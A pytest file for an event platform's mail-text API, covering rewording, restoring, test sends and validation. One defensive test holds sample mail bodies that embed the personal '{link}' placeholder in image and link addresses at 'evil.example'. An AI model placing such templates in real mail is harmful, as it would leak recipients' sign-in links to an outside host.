"""An event's mail texts by JSON: the same rules as on the page, with the same codes."""

from typing import Any

import httpx
import pytest

from plenaria.core import mail
from tests.site import Site

TEXTS = "/api/v1/events/congress/mail-texts"
TEXT = f"{TEXTS}/core.invitation/es"
WORDS = {"subject": "Hola", "body": "Vea {event}\n\n[Entrar]({link})"}


@pytest.fixture
async def program(site: Site) -> httpx.AsyncClient:
    return await site.bearer("organiser", "event.mail")


async def test_a_mail_is_read_reworded_and_restored(site: Site, program: httpx.AsyncClient) -> None:
    before: dict[str, Any] = (await program.get(TEXT)).json()
    put = await program.put(TEXT, json=WORDS)
    listed = [each for each in (await program.get(TEXTS)).json()["items"] if each["key"] == "core.invitation"]
    restored: dict[str, Any] = (await program.delete(TEXT)).json()

    assert (put.status_code, put.json()["is_reworded"], put.json()["body"]) == (200, True, WORDS["body"])
    assert put.json()["preview_text"].startswith("Vea Congreso congress\n\nEntrar:\nhttp")
    assert listed[0]["links"][-2:] == ["link", "site_link"]
    assert [each["language"] for each in listed[0]["rewordings"]] == ["es"]
    assert restored == before
    assert await mail.reworded(site.event) == {}


@pytest.mark.parametrize(
    ("words", "code", "pointer"),
    [
        ({"body": "![ ](https://evil.example/p.png?l={link})"}, "image_in_mail", "/body"),
        ({"body": "[x](https://evil.example/?l={link})"}, "placeholder_in_address", "/body"),
        ({"subject": "{link}"}, "link_in_subject", "/subject"),
    ],
)
async def test_what_the_page_refuses_is_refused_here(
    site: Site, program: httpx.AsyncClient, words: dict[str, str], code: str, pointer: str
) -> None:
    answers = [
        await program.put(TEXT, json={**WORDS, **words}),
        await program.post(f"{TEXT}/tests", json={**WORDS, **words}, headers={"Idempotency-Key": code}),
    ]

    for answer in answers:
        assert answer.status_code == 409
        assert [(each["code"], each["pointer"]) for each in answer.json()["errors"]] == [(code, pointer)]
    assert await mail.reworded(site.event) == {}
    assert await _mails(site) == []


async def _mails(site: Site) -> list[str]:
    """To whom, without the notice that the token was made."""
    return [each["to"] for each in await site.mails() if each["subject"] != "Plenaria: cambio en su cuenta"]


async def test_a_test_goes_to_whose_token_it_is_once(site: Site, program: httpx.AsyncClient) -> None:
    sent = [await program.post(f"{TEXT}/tests", json=WORDS, headers={"Idempotency-Key": "1"}) for _ in range(2)]

    assert [(each.status_code, each.json()) for each in sent] == [(201, {"to": "organiser@example.mx"})] * 2
    assert await _mails(site) == ["organiser@example.mx"]


@pytest.mark.parametrize("path", ["core.sign_in/es", "nobody/es", "core.invitation/xx"])
async def test_what_the_event_cannot_word_is_not_there(program: httpx.AsyncClient, path: str) -> None:
    assert (await program.get(f"{TEXTS}/{path}")).status_code == 404
